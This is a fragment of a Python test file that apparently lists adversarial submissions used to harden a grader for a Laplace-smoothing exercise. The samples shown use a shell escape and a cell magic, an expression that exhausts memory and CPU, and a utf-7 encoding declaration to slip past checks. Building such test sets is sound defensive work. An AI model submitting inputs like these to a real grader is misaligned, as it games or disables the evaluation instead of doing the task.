        "def laplace(row, vocabulary, word):\n    return 0.5\n",
    ),
    _answer(
        "magic-in-source",
        "A shell command and a cell magic in the answer.",
        "none naive",
        "%timeit -n1 -r1 0\n!true\ndef laplace(row, vocabulary, word):\n    return 0.5\n",
    ),
    _answer(
        "powers-in-source",
        "A constant that Python's optimiser may compute, and a string it may repeat.",
        "none naive",
        "def laplace(row, vocabulary, word):\n"
        "    return ('x' * 4096 * 4096 * 64 and 2**2**26) and .5\n",
    ),
    _answer(
        "encoding-in-source",
        "A line that asks for another encoding.",
        "none naive",
        "# -*- coding: utf-7 -*-\ndef laplace(row, vocabulary, word):\n    return 0.5\n",
    ),
)

ATTACKS: tuple[Attack, ...] = (
    *LIES,
    *PATCHES,
    *FORGED,
    *CALLS,
    *REFERENCES,
    *TABLES,
    *READS,
    *HARM,
    *STRANGE,
    *SOURCES,
)
